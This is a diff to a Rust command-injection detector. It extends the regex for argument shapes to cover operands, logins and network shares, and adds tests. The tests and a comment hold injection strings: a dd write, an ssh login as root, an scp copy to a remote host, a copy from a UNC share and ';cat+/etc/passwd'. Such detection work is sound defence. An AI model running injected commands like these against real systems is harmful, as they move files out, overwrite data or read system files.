@@ -521,11 +521,12 @@ fn process_member(b: &[u8], _s: usize, e: usize) -> bool {
 impl Cmdi {
     pub fn new() -> Result<Cmdi, String> {
         let strong = strong_commands();
-        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`),
-        // variable, redirection, glob, or end of the value. A `+`
+        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`
+        // and a share, `\\host`), variable, redirection, glob, an operand (`if=/dev/sda`), a
+        // login (`root@10.0.0.1`), or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
         // `ends` are the separators that may close the command (`;id;`, `|id|`).
-        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\\\\[a-z0-9]|[\s+]+[a-z_]{{1,12}}=[^\s=]|[\s+]+[a-z0-9._-]+@(?:\d{{1,3}}(?:\.\d{{1,3}}){{3}}|[a-z0-9-]+(?:\.[a-z0-9-]+)+)(?::\S*)?(?:[\s+]|$)|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|[<>]\(|\|\|)";
@@ -1170,6 +1171,16 @@ mod tests {
             assert!(flags("attack.cmdi", v), "{v}");
         }
         for v in ["a >(b) c", "x>(5%)", "$(( price", "((see p. 5))", "$(x)"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn operands_logins_and_shares_as_argument_shapes() {
+        for v in ["; dd if=/dev/zero of=/tmp/x", "x; ssh root@10.0.0.7", "| scp a.txt bob@files.example.org:/tmp", "& copy \\\\10.0.0.5\\s\\x.exe", "x && env X=1"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["Tom; cat lovers unite", "see below; more=better", "x; mail me later", "a & b = c", "Price; date=2024-01-01", "ping me@example.com"] {
             assert!(!flags("attack.cmdi", v), "{v}");
         }
     }
